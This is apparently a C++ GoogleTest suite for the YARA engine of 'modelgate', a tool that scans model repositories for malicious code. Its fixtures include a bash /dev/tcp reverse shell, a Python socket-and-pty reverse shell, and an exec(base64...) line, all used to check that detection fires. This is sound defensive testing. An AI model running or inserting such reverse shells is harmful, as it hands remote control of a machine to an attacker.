// The YARA rule-case runner and engine tests.
//
// Case convention: every file under rules/yara/<ID>-<slug>/cases/ is scanned with all bundled
// rules, as the engine scans a repository file of that name. A line carrying "expect: YR101" (or
// "expect: YR701, YR702") must be the line of a finding of each listed rule: a YARA rule matches a
// whole file once, at the line where its earliest non-private string starts. Any other finding
// fails, so a file without marks asserts silence for every bundled rule. Each rule needs at least
// one positive case (a mark of its id) and one negative case (a file in its folder without one).
#include <gtest/gtest.h>

#include <algorithm>
#include <filesystem>
#include <fstream>
#include <map>
#include <regex>
#include <set>
#include <sstream>

#include <unistd.h>

#include "core/rule.hpp"
#include "core/text.hpp"
#include "engines/yara/yara_engine.hpp"

namespace fs = std::filesystem;

namespace mg {
namespace {

const fs::path kRulesDir = fs::path(MODELGATE_SOURCE_DIR) / "rules" / "yara";

std::string slurp(const fs::path& p) {
  std::ifstream in(p, std::ios::binary);
  std::ostringstream s;
  s << in.rdbuf();
  return s.str();
}

std::span<const std::uint8_t> bytes_of(const std::string& s) {
  return {reinterpret_cast<const std::uint8_t*>(s.data()), s.size()};
}

using Marks = std::set<std::pair<std::string, std::uint32_t>>;  // (rule id, line)

Marks parse_marks(const std::string& text) {
  static const std::regex mark(R"(expect:\s*([A-Z]{2}[0-9]{3}(\s*,\s*[A-Z]{2}[0-9]{3})*))");
  static const std::regex id(R"([A-Z]{2}[0-9]{3})");
  Marks out;
  std::uint32_t line = 0;
  for (auto l : split(text, '\n')) {
    ++line;
    std::string s(l);
    std::smatch m;
    if (!std::regex_search(s, m, mark)) continue;
    const std::string ids = m[1];
    for (std::sregex_iterator it(ids.begin(), ids.end(), id), end; it != end; ++it) out.insert({it->str(), line});
  }
  return out;
}

std::vector<fs::path> case_files() {
  std::vector<fs::path> out;
  for (const auto& e : fs::recursive_directory_iterator(kRulesDir)) {
    if (e.is_regular_file() && e.path().parent_path().filename() == "cases") out.push_back(e.path());
  }
  std::sort(out.begin(), out.end());
  return out;
}

CompiledRulesPtr bundled() {
  const auto& r = bundled_yara_rules();
  if (!r) ADD_FAILURE() << r.error().message;
  return r ? *r : nullptr;
}

EngineOutput scan_with(const std::vector<CompiledRulesPtr>& sets, std::string_view path, const std::string& data,
                       const Limits& limits = {}) {
  EngineOutput out;
  auto scanner = YaraFileScanner::create(sets, limits);
  if (!scanner) {
    ADD_FAILURE() << scanner.error().message;
    return out;
  }
  scanner->scan(path, bytes_of(data), nullptr, out);
  return out;
}

// A temporary folder removed at the end of the test.
struct TempDir {
  fs::path path;
  TempDir() {
    path = fs::temp_directory_path() / ("modelgate-yara-test-" + std::to_string(::getpid()) + "-" +
                                        std::to_string(reinterpret_cast<std::uintptr_t>(this)));
    fs::create_directories(path);
  }
  ~TempDir() {
    std::error_code ec;
    fs::remove_all(path, ec);
  }
  fs::path write(const std::string& name, const std::string& text) const {
    const fs::path p = path / name;
    fs::create_directories(p.parent_path());
    std::ofstream(p, std::ios::binary) << text;
    return p;
  }
};

TEST(YaraBundled, CompileWithoutWarnings) {
  const auto rules = bundled();
  ASSERT_NE(rules, nullptr);
  EXPECT_TRUE(rules->bundled());
  EXPECT_GE(rules->size(), 10u);
  for (const auto& w : rules->warnings()) ADD_FAILURE() << w;
}

TEST(YaraBundled, EveryRuleHasItsFolderAndReadme) {
  const auto rules = bundled();
  ASSERT_NE(rules, nullptr);
  const auto& reg = RuleRegistry::builtin();
  for (const auto& p : reg.problems()) {
    if (p.find("rules/yara/") != std::string::npos) ADD_FAILURE() << p;
  }
  std::set<std::string> compiled;
  for (const auto& m : rules->metas()) {
    compiled.insert(m.id);
    const RuleInfo* info = reg.find(m.id);
    ASSERT_NE(info, nullptr) << m.name << ": no rules/yara/" << m.id << "-<slug>/README.md";
    EXPECT_EQ(info->engine, "yara") << m.id;
    std::string slug = info->slug;
    std::replace(slug.begin(), slug.end(), '-', '_');
    EXPECT_EQ(m.name, m.id + "_" + slug) << "rule name should be <ID>_<slug with underscores>";
    EXPECT_EQ(m.severity, info->severity) << m.id << ": meta severity differs from README";
    EXPECT_EQ(m.cwe, info->cwe) << m.id << ": meta cwe differs from README";
    EXPECT_TRUE(fs::exists(kRulesDir / (m.id + "-" + info->slug) / "rule.yar")) << m.id;
  }
  for (const auto& r : reg.all()) {
    if (r.engine != "yara") continue;
    EXPECT_TRUE(compiled.count(r.id)) << r.id << " has a README but no compiled rule";
    // Evasion markers never rank above low.
    if (r.slug.find("evasion") != std::string::npos) {
      EXPECT_EQ(r.severity, Severity::low) << r.id;
    }
  }
}

TEST(YaraBundled, RuleCases) {
  const auto rules = bundled();
  ASSERT_NE(rules, nullptr);
  const auto files = case_files();
  ASSERT_FALSE(files.empty());
  std::map<std::string, int> positives, negatives;  // per rule folder id
  for (const auto& file : files) {
    const std::string rel = fs::relative(file, MODELGATE_SOURCE_DIR).string();
    SCOPED_TRACE(rel);
    const std::string text = slurp(file);
    const Marks expected = parse_marks(text);
    const std::string folder_id = file.parent_path().parent_path().filename().string().substr(0, 5);
    bool own_mark = false;
    for (const auto& [id, line] : expected) own_mark |= id == folder_id;
    ++(own_mark ? positives : negatives)[folder_id];

    // Scan under the case's own file name so the engine classifies it as it would in a repo.
    const auto out = scan_with({rules}, file.filename().string(), text);
    EXPECT_TRUE(out.incomplete.empty());
    Marks got;
    for (const auto& f : out.findings) {
      got.insert({f.rule_id, f.line});
      EXPECT_EQ(f.engine, "yara");
      EXPECT_GT(f.column, 0u) << f.rule_id;
      EXPECT_FALSE(f.snippet.empty()) << f.rule_id;
    }
    for (const auto& m : expected) {
      if (!got.count(m)) ADD_FAILURE() << rel << ":" << m.second << ": expected " << m.first << ", got none";
    }
    for (const auto& f : out.findings) {
      if (!expected.count({f.rule_id, f.line}))
        ADD_FAILURE() << rel << ":" << f.line << ": unexpected " << f.rule_id << ": " << f.snippet;
    }
  }
  for (const auto& m : bundled()->metas()) {
    EXPECT_GE(positives[m.id], 1) << m.id << " has no positive case";
    EXPECT_GE(negatives[m.id], 1) << m.id << " has no negative case";
  }
}

TEST(YaraBundled, SourcesAreEmbedded) {
  const auto sources = bundled_yara_sources();
  ASSERT_FALSE(sources.empty());
  for (const auto& s : sources) {
    // Bundled rules are scanned in fast mode (first match per string only): no counts, no offsets.
    static const std::regex count_or_offset(R"([#@!][A-Za-z_*])");
    const auto cond = s.text.find("condition:");
    ASSERT_NE(cond, std::string::npos) << s.name;
    EXPECT_FALSE(std::regex_search(s.text.substr(cond), count_or_offset)) << s.name << " uses #, @ or ! in its condition";
    EXPECT_TRUE(starts_with(s.name, "rules/yara/")) << s.name;
    EXPECT_EQ(slurp(fs::path(MODELGATE_SOURCE_DIR) / s.name), s.text) << s.name << " is stale: rebuild";
  }
}

TEST(YaraFiles, KindsByName) {
  const std::string text = "print(1)\n";
  const std::string binary("\x80\x02}q\x00.", 6);
  EXPECT_EQ(yara_file_kind("modeling_x.py", {}), YaraFileKind::code);
  EXPECT_EQ(yara_file_kind("scripts/run.SH", {}), YaraFileKind::code);
  EXPECT_EQ(yara_file_kind("config.json", {}), YaraFileKind::config);
  EXPECT_EQ(yara_file_kind("README.md", {}), YaraFileKind::doc);
  EXPECT_EQ(yara_file_kind("model.safetensors", {}), YaraFileKind::other);
  EXPECT_EQ(yara_file_kind("pytorch_model.bin", {}), YaraFileKind::other);
  EXPECT_EQ(yara_file_kind("Dockerfile", bytes_of(text)), YaraFileKind::code);
  EXPECT_EQ(yara_file_kind("hook.pth", bytes_of(text)), YaraFileKind::code);
  EXPECT_EQ(yara_file_kind("model.pth", bytes_of(binary)), YaraFileKind::other);
}

TEST(YaraFiles, DocFindingsAreCappedAndNotReachable) {
  const std::string text = "Do not run `bash -i >& /dev/tcp/203.0.113.7/4444 0>&1` on your machine.\n";
  const auto out = scan_with({bundled()}, "README.md", text);
  ASSERT_EQ(out.findings.size(), 1u);
  EXPECT_EQ(out.findings[0].rule_id, "YR102");
  EXPECT_EQ(out.findings[0].severity, Severity::medium);
  EXPECT_EQ(out.findings[0].load_reachable, Reach::no);
  const auto in_code = scan_with({bundled()}, "run.sh", text);
  ASSERT_EQ(in_code.findings.size(), 1u);
  EXPECT_EQ(in_code.findings[0].severity, Severity::critical);
}

TEST(YaraFiles, BundledRulesSkipBinariesAndOversizedCode) {
  const std::string payload = "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n";
  EXPECT_TRUE(scan_with({bundled()}, "weights.bin", payload).findings.empty());
  Limits small;
  small.max_yara_file_bytes = 8;
  const auto big_code = scan_with({bundled()}, "run.sh", payload, small);
  EXPECT_TRUE(big_code.findings.empty());
  ASSERT_EQ(big_code.incomplete.size(), 1u);
  EXPECT_EQ(big_code.incomplete[0].file, "run.sh");
  // Large data files are skipped without making the target partial.
  EXPECT_TRUE(scan_with({bundled()}, "tokenizer.json", payload, small).incomplete.empty());
}

TEST(YaraFiles, SnippetIsBoundedOnMinifiedLines) {
  std::string text(100'000, 'a');
  text += " exec(base64.b64decode('cHJpbnQoMSk='))";
  text += std::string(100'000, 'b');
  const auto out = scan_with({bundled()}, "blob.py", text);
  ASSERT_EQ(out.findings.size(), 1u);
  EXPECT_EQ(out.findings[0].line, 1u);
  EXPECT_EQ(out.findings[0].column, 100'002u);
  EXPECT_LE(out.findings[0].snippet.size(), 200u);
  EXPECT_NE(out.findings[0].snippet.find("exec(base64"), std::string::npos);
}

TEST(YaraUserRules, MetaBecomesTheFinding) {
  TempDir dir;
  dir.write("a.yar", R"(rule corp_token { meta: id = "CORP-1" severity = "HIGH" cwe = "CWE-798, 522"
      description = "Corporate token in the repo" confidence = "low"
    strings: $ctx = "corp" private $t = /CORP_[A-Z0-9]{8}/ condition: $t and $ctx })");
  dir.write("sub/b.yara", R"(rule plain { strings: $a = "needle" condition: $a })");
  dir.write("sub/ignored.txt", "not a rule {");
  auto rules = compile_yara_rules({dir.path.string()});
  ASSERT_TRUE(rules) << rules.error().message;
  EXPECT_FALSE((*rules)->bundled());
  EXPECT_EQ((*rules)->size(), 2u);
  const auto out = scan_with({*rules}, "weights.bin", "corp\nx = 'CORP_ABCD1234'\nneedle");
  ASSERT_EQ(out.findings.size(), 2u);
  const Finding& f = out.findings[0];
  EXPECT_EQ(f.rule_id, "CORP-1");
  EXPECT_EQ(f.engine, "yara");
  EXPECT_EQ(f.title, "Corporate token in the repo");
  EXPECT_EQ(f.severity, Severity::high);
  EXPECT_EQ(f.confidence, Confidence::low);
  EXPECT_EQ(f.cwe, (std::vector<int>{798, 522}));
  EXPECT_EQ(f.line, 2u);  // the private context string on line 1 does not set the location
  EXPECT_EQ(f.column, 6u);
  EXPECT_EQ(f.snippet, "x = 'CORP_ABCD1234'");
  const Finding& g = out.findings[1];
  EXPECT_EQ(g.rule_id, "plain");
  EXPECT_EQ(g.severity, Severity::medium);
  EXPECT_TRUE(g.cwe.empty());
  EXPECT_EQ(g.title, "YARA rule plain matched");
  EXPECT_EQ(g.line, 3u);
}

TEST(YaraUserRules, FilesAndFoldersTogetherWithIncludes) {
  TempDir dir;
  dir.write("lib/common.yar", "private rule has_marker { strings: $m = \"MARKER\" condition: $m }\n");
  const auto main_rule = dir.write("lib/main.yar", "include \"common.yar\"\n"
                                                    "rule marked { meta: severity = \"critical\" condition: has_marker }\n");
  dir.write("more/x.yara", "rule other { strings: $o = \"OTHER\" condition: $o }\n");
  auto rules = compile_yara_rules({main_rule.string(), (dir.path / "more").string()});
  ASSERT_TRUE(rules) << rules.error().message;
  const auto out = scan_with({*rules}, "notes.py", "a MARKER and OTHER\n");
  ASSERT_EQ(out.findings.size(), 2u);
  EXPECT_EQ(out.findings[0].rule_id, "marked");
  EXPECT_EQ(out.findings[0].severity, Severity::critical);
  EXPECT_EQ(out.findings[0].line, 0u);  // matched through a private rule: no string of its own
  EXPECT_EQ(out.findings[1].rule_id, "other");
  EXPECT_EQ(out.findings[1].line, 1u);
}

TEST(YaraUserRules, CompileErrorNamesFileAndLine) {
  TempDir dir;
  const auto good = dir.write("good.yar", "rule ok { condition: true }\n");
  const auto bad = dir.write("bad.yar", "rule broken\n{\n  strings:\n    $a = \"x\"\n  condition:\n    $a and $b\n}\n");
  auto rules = compile_yara_rules({good.string(), bad.string()});
  ASSERT_FALSE(rules);
  // libyara reports the line where it noticed the problem (here the closing brace, line 7).
  EXPECT_NE(rules.error().message.find(bad.string() + ":7: error: "), std::string::npos) << rules.error().message;
  EXPECT_NE(rules.error().message.find("$b"), std::string::npos) << rules.error().message;

  auto missing = compile_yara_rules({(dir.path / "nope.yar").string()});
  ASSERT_FALSE(missing);
  EXPECT_NE(missing.error().message.find("nope.yar: no such file"), std::string::npos);
  fs::create_directories(dir.path / "empty");
  auto empty = compile_yara_rules({(dir.path / "empty").string()});
  ASSERT_FALSE(empty);
  EXPECT_NE(empty.error().message.find("no .yar or .yara files"), std::string::npos);
}

TEST(YaraUserRules, MatchFloodIsReportedNotFatal) {
  auto rules = compile_yara_sources({{"flood.yar", "rule flood { strings: $a = \"aa\" condition: #a > 10 }"}}, false);
  ASSERT_TRUE(rules) << rules.error().message;
  const auto out = scan_with({*rules}, "flood.py", std::string(3u << 20, 'a'));
  ASSERT_EQ(out.incomplete.size(), 1u);
  EXPECT_NE(out.incomplete[0].reason.find("too many matches"), std::string::npos) << out.incomplete[0].reason;
  ASSERT_EQ(out.findings.size(), 1u);
  EXPECT_EQ(out.findings[0].line, 1u);
}

TEST(YaraUserRules, TimeoutIsIncompleteNotCrash) {
  auto rules = compile_yara_sources(
      {{"slow.yar", "rule slow { condition: for all i in (0..filesize) : "
                    "( for all j in (0..filesize) : ( uint8(i) != 0xFF or uint8(j) != 0xFF ) ) }"}},
      false);
  ASSERT_TRUE(rules) << rules.error().message;
  Limits limits;
  limits.yara_timeout_seconds = 1;
  const auto out = scan_with({*rules}, "big.py", std::string(1 << 20, '\0'), limits);
  EXPECT_TRUE(out.findings.empty());
  ASSERT_EQ(out.incomplete.size(), 1u);
  EXPECT_NE(out.incomplete[0].reason.find("timed out"), std::string::npos) << out.incomplete[0].reason;
}

TEST(YaraEngine, ScansASnapshotAndMarksLoadedModules) {
  TempDir dir;
  const std::string shell = "import os, pty, socket\ns = socket.socket()\ns.connect(('canary.invalid', 1))\n"
                            "os.dup2(s.fileno(), 0)\npty.spawn('/bin/sh')\n";
  Snapshot snap;
  snap.kind = "directory";
  snap.root = dir.path.string();
  auto add = [&](const std::string& name, const std::string& text) {
    const auto p = dir.write(name, text);
    snap.files.push_back({name, static_cast<std::uint64_t>(text.size()), p.string(), -1, {}, false});
  };
  add("modeling_x.py", shell);
  add("utils/helper.py", shell);
  add("model.safetensors", shell);  // weights are not the yara engine's files
  add("README.md", "model card\n");
  snap.sort_files();
  LoadPlan plan;
  plan.module_files = {"modeling_x.py"};
  plan.entry_points.push_back({"modeling_x.py", "XModel", "config.json:auto_map.AutoModel"});
  const Limits limits;
  EngineOutput out;
  auto engine = make_yara_engine();
  EXPECT_EQ(engine->name(), "yara");
  engine->run({snap, plan, limits}, out);
  EXPECT_TRUE(out.incomplete.empty());
  ASSERT_EQ(out.findings.size(), 2u);
  EXPECT_EQ(out.findings[0].file, "modeling_x.py");
  EXPECT_EQ(out.findings[0].rule_id, "YR101");
  EXPECT_EQ(out.findings[0].line, 4u);
  EXPECT_EQ(out.findings[0].load_reachable, Reach::yes);
  EXPECT_EQ(out.findings[0].reach_path,
            (std::vector<std::string>{"config.json:auto_map.AutoModel", "modeling_x.py:<module>"}));
  EXPECT_EQ(out.findings[1].file, "utils/helper.py");
  EXPECT_EQ(out.findings[1].load_reachable, Reach::unknown);

  // The same snapshot with several threads gives the same, ordered result.
  EngineOutput threaded;
  make_yara_engine({.bundled = true, .user_rules = nullptr, .threads = 4})->run({snap, plan, limits}, threaded);
  ASSERT_EQ(threaded.findings.size(), out.findings.size());
  for (std::size_t i = 0; i < out.findings.size(); ++i) EXPECT_EQ(threaded.findings[i].file, out.findings[i].file);

  // User rules see the weights file too; the bundled set can be switched off.
  auto user = compile_yara_sources({{"u.yar", "rule dup2_any { strings: $a = \"dup2\" condition: $a }"}}, false);
  ASSERT_TRUE(user);
  EngineOutput with_user;
  make_yara_engine({.bundled = false, .user_rules = *user, .threads = 0})->run({snap, plan, limits}, with_user);
  EXPECT_EQ(with_user.findings.size(), 3u);
}

TEST(YaraEngine, UnreadableCodeFileIsIncomplete) {
  Snapshot snap;
  snap.files.push_back({"gone.py", 10, "/nonexistent/modelgate/gone.py", -1, {}, false});
  LoadPlan plan;
  const Limits limits;
  EngineOutput out;
  make_yara_engine()->run({snap, plan, limits}, out);
  ASSERT_EQ(out.incomplete.size(), 1u);
  EXPECT_EQ(out.incomplete[0].file, "gone.py");
}

}  // namespace
}  // namespace mg
